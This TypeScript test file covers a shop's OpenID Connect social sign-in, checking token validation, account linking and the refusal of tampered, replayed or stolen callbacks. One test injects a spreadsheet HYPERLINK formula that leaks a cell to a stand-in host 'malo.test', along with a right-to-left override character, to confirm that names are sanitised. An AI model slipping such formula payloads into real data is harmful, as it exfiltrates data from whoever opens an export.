import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { NAME_MAX } from '@burgers/domain/constants';
import { NAME_PATTERN } from '@burgers/domain/schemas/fields';
import { linkedIdentities, oidcLoginCodes, users } from '#db/schema';
import { hashMailToken, newMailToken } from '#modules/auth/mail-tokens';
import { insertToken } from '#modules/auth/repo';
import { startFakeIssuer, type FakeIssuer } from './support/fake-issuer';
import { TestBrowser } from './support/oidc-browser';
import { useTestApp } from './support/test-app';
import { insertUser, TEST_PASSWORD } from './support/user-fixtures';

interface LoginBody {
  user: { id: number; firstName: string; lastName: string; email: string; role: string; imgUri: string | null };
  data: { token: string };
}

/**
 * Social sign-in against an external provider (a test issuer that can misbehave on demand):
 * every defect in its answer ends in /userlogin?oidc_error=... and no session.
 */
describe('social sign-in with an OpenID provider', () => {
  let fake: FakeIssuer;
  beforeAll(async () => {
    fake = await startFakeIssuer({ clientId: 'tienda' });
  });
  afterAll(async () => fake.close());
  const { t, api } = useTestApp(() => ({
    OIDC_ISSUER: fake.issuer,
    OIDC_CLIENT_ID: 'tienda',
    OIDC_PROVIDER_NAME: 'Prueba',
  }));

  let subjectCount = 0;
  /** Each test signs in as a person of its own unless it says otherwise. */
  beforeEach(() => {
    subjectCount += 1;
    fake.signWithUnknownKey = false;
    fake.tokenClaims = { sub: `persona-${subjectCount}`, email: `persona${subjectCount}-${Date.now()}@correo.test` };
  });

  async function start(browser: TestBrowser): Promise<string> {
    const response = await browser.request(`${t.baseUrl}/api/login/oidc/start`);
    expect(response.status).toBe(302);
    return response.headers.get('location') ?? '';
  }

  /** The whole round trip; returns the shop page the browser lands on. */
  async function signIn(browser = new TestBrowser(t.baseUrl)): Promise<URL> {
    const back = await fake.authorize(await start(browser));
    return new URL((await browser.follow(back)).url);
  }

  const codeIn = (landing: URL) =>
    landing.hash.startsWith('#code=') ? landing.hash.slice('#code='.length) : undefined;

  async function exchange(landing: URL) {
    return api<LoginBody>('POST', '/login/oidc/exchange', { body: { code: codeIn(landing) ?? 'none' } });
  }

  function expectRefused(landing: URL, reason = 'failed') {
    expect(landing.pathname).toBe('/userlogin');
    expect(landing.searchParams.get('oidc_error')).toBe(reason);
    expect(codeIn(landing)).toBeUndefined();
  }

  it('tells the web app the provider name', async () => {
    expect((await api('GET', '/login/oidc')).body).toEqual({ name: 'Prueba' });
  });

  it('starts the code flow with PKCE S256, state and nonce, and a short-lived HttpOnly SameSite=Lax state cookie', async () => {
    const response = await new TestBrowser(t.baseUrl).request(`${t.baseUrl}/api/login/oidc/start`);
    const location = new URL(response.headers.get('location') ?? '');
    expect(location.origin + location.pathname).toBe(`${fake.issuer}/authorize`);
    expect(Object.fromEntries(location.searchParams)).toMatchObject({
      client_id: 'tienda',
      response_type: 'code',
      redirect_uri: `${t.baseUrl}/api/login/oidc/callback`,
      scope: 'openid email profile',
      code_challenge_method: 'S256',
    });
    for (const param of ['state', 'nonce', 'code_challenge'])
      expect(location.searchParams.get(param)).toMatch(/^[\w-]{43,}$/);
    const cookie = response.headers.getSetCookie().join('\n');
    expect(cookie).toMatch(/burgers_oidc_state=/);
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Lax/i);
    expect(cookie).toMatch(/Max-Age=600/);
  });

  it('creates an active customer without a usable password from the ID token, and answers the exchange like POST /login', async () => {
    fake.tokenClaims = { ...fake.tokenClaims, email_verified: false, picture: 'https://fotos.example/paula.png' };
    const email = String(fake.tokenClaims.email);
    const landing = await signIn();
    expect(landing.pathname).toBe('/userlogin/oidc');
    const { status, body } = await exchange(landing);
    expect(status).toBe(200);
    expect(body.user).toMatchObject({
      firstName: 'Paula',
      lastName: 'Proveedora',
      email,
      role: 'customer',
      imgUri: 'https://fotos.example/paula.png',
    });
    expect(Object.keys(body)).toEqual(['user', 'data']);
    const me = await api('GET', `/users/favorites/${body.user.id}`, { token: body.data.token });
    expect(me.status).toBe(200);

    // Password login refuses the account until recovery (which proves the mailbox) sets a password.
    expect((await api('POST', '/login', { body: { email, password: TEST_PASSWORD } })).status).toBe(401);
    const { token, tokenHash } = newMailToken();
    await insertToken(t.app.ctx.db, {
      userId: body.user.id,
      purpose: 'password_reset',
      tokenHash,
      validForMinutes: 60,
    });
    expect(hashMailToken(token)).toBe(tokenHash);
    expect((await api('POST', '/resetPassword', { body: { token, password: 'NuevaClave123!' } })).status).toBe(200);
    expect((await api('POST', '/login', { body: { email, password: 'NuevaClave123!' } })).status).toBe(200);
  });

  it('signs the same (issuer, subject) into the same account later, keeping the names the person changed', async () => {
    const first = await exchange(await signIn());
    const { id } = first.body.user;
    await api('PUT', `/users/${id}`, {
      token: first.body.data.token,
      body: { firstName: 'Paulita', lastName: 'Cambiada' },
    });
    fake.tokenClaims = {
      ...fake.tokenClaims,
      given_name: 'Otro',
      family_name: 'Nombre',
      email: `cambiado-${Date.now()}@correo.test`,
    };
    const again = await exchange(await signIn());
    expect(again.status).toBe(200);
    expect(again.body.user).toMatchObject({ id, firstName: 'Paulita', lastName: 'Cambiada' });
  });

  it("holds the provider's names to the registration form's pattern and length", async () => {
    fake.tokenClaims = {
      ...fake.tokenClaims,
      given_name: '=HYPERLINK("https://malo.test/?"&D2;"Ver") Zoë',
      family_name: `@Núñez${'\u202e'}${'Ñandú '.repeat(20)}`,
    };
    const { status, body } = await exchange(await signIn());
    expect(status).toBe(200);
    const { firstName, lastName } = body.user;
    for (const name of [firstName, lastName]) {
      expect(name).toMatch(NAME_PATTERN);
      expect(name.length).toBeLessThanOrEqual(NAME_MAX);
      expect(name).toBe(name.trim());
    }
    expect(firstName).toBe('HYPERLINK https malo.test D Ver Zoe');
    expect(lastName.startsWith('Núñez Ñandú Ñandú')).toBe(true);
  });

  it('links a verified email to the active customer who has it', async () => {
    const customer = await insertUser(t, { role: 'customer' });
    fake.tokenClaims = { ...fake.tokenClaims, email: customer.email, email_verified: true };
    const { status, body } = await exchange(await signIn());
    expect(status).toBe(200);
    expect(body.user.id).toBe(customer.id);
    const links = await t.app.ctx.db.select().from(linkedIdentities).where(eq(linkedIdentities.userId, customer.id));
    expect(links).toEqual([expect.objectContaining({ issuer: fake.issuer, subject: fake.tokenClaims.sub })]);
  });

  it('does not link an unverified email, a deactivated account or a staff account: the message says to use the password', async () => {
    const customer = await insertUser(t, { role: 'customer' });
    const deactivated = await insertUser(t, { role: 'customer', deactivated: true });
    const admin = await insertUser(t, { role: 'admin' });
    const cases: Array<[string, boolean]> = [
      [customer.email, false],
      [deactivated.email, true],
      [admin.email, true],
    ];
    for (const [email, verified] of cases) {
      fake.tokenClaims = { ...fake.tokenClaims, sub: `intruso-${email}`, email, email_verified: verified };
      expectRefused(await signIn(), 'account_exists');
    }
    expect(await t.app.ctx.db.select().from(linkedIdentities).where(eq(linkedIdentities.userId, customer.id))).toEqual(
      [],
    );
  });

  it('refuses a linked account once an admin deactivates it', async () => {
    const first = await exchange(await signIn());
    await t.app.ctx.db.update(users).set({ deletedAt: new Date() }).where(eq(users.id, first.body.user.id));
    expectRefused(await signIn());
  });

  describe('a provider answer that does not verify gives no session', () => {
    const defects: Array<[string, () => void]> = [
      ['an ID token for another audience', () => (fake.tokenClaims.aud = 'otra-tienda')],
      ['an ID token from another issuer', () => (fake.tokenClaims.iss = 'https://impostor.example')],
      [
        'an expired ID token',
        () =>
          Object.assign(fake.tokenClaims, {
            iat: Math.floor(Date.now() / 1000) - 7200,
            exp: Math.floor(Date.now() / 1000) - 3600,
          }),
      ],
      ['an ID token without iat', () => (fake.tokenClaims.iat = undefined)],
      ['an ID token signed with a key the provider does not publish', () => (fake.signWithUnknownKey = true)],
      ['an ID token without nonce', () => (fake.tokenClaims.nonce = undefined)],
    ];
    for (const [what, spoil] of defects) {
      it(what, async () => {
        spoil();
        expectRefused(await signIn());
      });
    }

    it('an ID token replaying the nonce of an earlier sign-in', async () => {
      await signIn();
      const earlierNonce = fake.nonces.at(-1);
      fake.tokenClaims.nonce = earlierNonce;
      expectRefused(await signIn());
    });
  });

  it('refuses a state that does not match, a callback from another browser and a replayed callback', async () => {
    const browser = new TestBrowser(t.baseUrl);
    const back = new URL(await fake.authorize(await start(browser)));
    const tampered = new URL(back);
    tampered.searchParams.set('state', 'otro-estado-que-no-es-el-nuestro-0123456789abc');
    expectRefused(new URL((await browser.follow(tampered.href)).url));

    const victim = new TestBrowser(t.baseUrl);
    const stolen = new URL(await fake.authorize(await start(new TestBrowser(t.baseUrl))));
    expectRefused(new URL((await victim.follow(stolen.href)).url));

    const good = new TestBrowser(t.baseUrl);
    const backAgain = await fake.authorize(await start(good));
    const cookieCopy = new TestBrowser(t.baseUrl);
    await cookieCopy.request(`${t.baseUrl}/api/login/oidc/start`);
    const landing = new URL((await good.follow(backAgain)).url);
    expect(codeIn(landing)).toBeDefined();
    // The same answer again (the state is used up, the cookie gone).
    expectRefused(new URL((await good.follow(backAgain)).url));
  });

  it('refuses a cancelled sign-in (error=access_denied)', async () => {
    const browser = new TestBrowser(t.baseUrl);
    const authorization = new URL(await start(browser));
    const state = authorization.searchParams.get('state') ?? '';
    const landing = await browser.follow(`${t.baseUrl}/api/login/oidc/callback?error=access_denied&state=${state}`);
    expectRefused(new URL(landing.url));
  });

  it('uses an exchange code once and only for 60 seconds', async () => {
    const landing = await signIn();
    expect((await exchange(landing)).status).toBe(200);
    const reused = await exchange(landing);
    expect(reused.status).toBe(400);
    expect(reused.body).toMatchObject({ error: 'El código de ingreso no es válido o ya venció' });

    const late = await signIn();
    await t.app.ctx.db.update(oidcLoginCodes).set({ expiresAt: sql`now() - interval '1 second'` });
    const expired = await exchange(late);
    expect(expired.status).toBe(400);
    expect(expired.body).not.toHaveProperty('data');
  });

  it('never signs in from a profile posted by the browser, whatever the provider name', async () => {
    const customer = await insertUser(t, { role: 'customer' });
    const profile = { firstName: 'Eva', lastName: 'Intrusa', email: customer.email, imgUri: 'https://x.example/a.png' };
    for (const provider of ['demo', 'google', 'auth0', 'oidc', 'facebook']) {
      const response = await api('POST', `/login/${provider}`, { body: profile });
      expect(response.status, provider).toBeGreaterThanOrEqual(400);
      expect(response.status, provider).toBeLessThan(500);
      expect(JSON.stringify(response.body)).not.toMatch(/token/);
    }
  });

  it('ends the provider session through its end-session endpoint and back to the shop', async () => {
    const response = await fetch(`${t.baseUrl}/api/login/oidc/logout`, { redirect: 'manual' });
    expect(response.status).toBe(302);
    const location = new URL(response.headers.get('location') ?? '');
    expect(location.origin + location.pathname).toBe(`${fake.issuer}/logout`);
    expect(location.searchParams.get('post_logout_redirect_uri')).toBe(`${t.baseUrl}/`);
    expect(location.searchParams.get('client_id')).toBe('tienda');
  });

  it('lists the start, callback and exchange paths in the OpenAPI document', async () => {
    const doc = (await (await fetch(`${t.baseUrl}/api/docs/json`)).json()) as { paths: Record<string, unknown> };
    for (const path of [
      '/api/login/oidc/start',
      '/api/login/oidc/callback',
      '/api/login/oidc/exchange',
      '/api/login/oidc',
    ]) {
      expect(doc.paths).toHaveProperty([path]);
    }
  });
});
